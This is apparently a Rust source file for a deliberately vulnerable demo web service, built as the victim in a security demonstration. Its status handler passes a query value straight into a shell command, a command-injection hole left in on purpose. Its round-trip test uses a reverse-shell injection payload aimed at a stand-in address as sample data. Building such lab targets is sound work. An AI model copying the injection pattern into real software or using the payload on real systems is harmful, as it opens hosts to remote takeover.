//! The demo's victim: a small web service with a hole.
//!
//! `GET /status?item=NAME` runs `sh -c "cat /srv/status/NAME"`: whoever writes a `;` into the name runs commands, the
//! commonest hole of its kind. It runs inside the demo's container only, under the name `shop-api`.
//! `GET /healthchecks` says how often somebody connected and asked nothing, as the healthcheck does.

use std::io::{self, BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, TcpListener, TcpStream};
use std::process::Command;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

/// Where the service listens.
pub const PORT: u16 = 8080;
/// The program's name inside the container.
pub const PATH: &str = "/srv/shop-api";
/// The hidden subcommand that runs it.
pub const SUBCOMMAND: &str = "demo-service";
/// What the container is asked every second whether it is well: a shell and a connection, as in an attack, and yet
/// no detection may say a word.
pub const HEALTHCHECK: &str = "exec 3<>/dev/tcp/127.0.0.1/8080";
/// Longest request line that is read.
const REQUEST_BYTES_MAX: u64 = 8192;

static HEALTHCHECKS: AtomicU64 = AtomicU64::new(0);

/// Serves until it is killed; one thread a request, as an attack keeps its request open.
///
/// # Errors
/// The port cannot be listened on.
pub fn serve() -> io::Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::UNSPECIFIED, PORT))?;
    for connection in listener.incoming().flatten() {
        std::thread::spawn(move || answer(connection));
    }
    Ok(())
}

fn answer(mut connection: TcpStream) -> io::Result<()> {
    connection.set_read_timeout(Some(Duration::from_secs(5)))?;
    let mut request = String::new();
    BufReader::new((&connection).take(REQUEST_BYTES_MAX)).read_line(&mut request)?;
    let Some(target) = request.split(' ').nth(1) else {
        HEALTHCHECKS.fetch_add(1, Ordering::Relaxed);
        return Ok(());
    };
    let body = match target.strip_prefix("/status?item=") {
        Some(item) => status(&decoded(item))?,
        None => format!("{}\n", HEALTHCHECKS.load(Ordering::Relaxed)).into_bytes(),
    };
    write!(
        connection,
        "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )?;
    connection.write_all(&body)
}

/// The hole: `item` reaches a shell.
fn status(item: &str) -> io::Result<Vec<u8>> {
    Ok(Command::new("/bin/sh")
        .args(["-c", &format!("cat /srv/status/{item}")])
        .output()?
        .stdout)
}

/// Decodes the `%XX` of an address.
fn decoded(text: &str) -> String {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let [first, tail @ ..] = rest {
        let code = tail.get(..2).and_then(|hex| std::str::from_utf8(hex).ok());
        match (first, code.and_then(|hex| u8::from_str_radix(hex, 16).ok())) {
            (b'%', Some(byte)) => {
                bytes.push(byte);
                rest = &tail[2..];
            }
            _ => {
                bytes.push(*first);
                rest = tail;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

/// Encodes every byte but letters and digits as `%XX`.
pub fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| {
            if byte.is_ascii_alphanumeric() {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02X}")
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn address_round_trip() {
        let text = "x; bash -c 'exec bash <>/dev/tcp/203.0.113.66/4444 >&0 2>&0' 100% ü";
        assert_eq!(decoded(&encoded(text)), text);
        assert_eq!(decoded("100%"), "100%");
        assert_eq!(decoded("%4"), "%4");
        assert_eq!(decoded("%zz"), "%zz");
    }
}
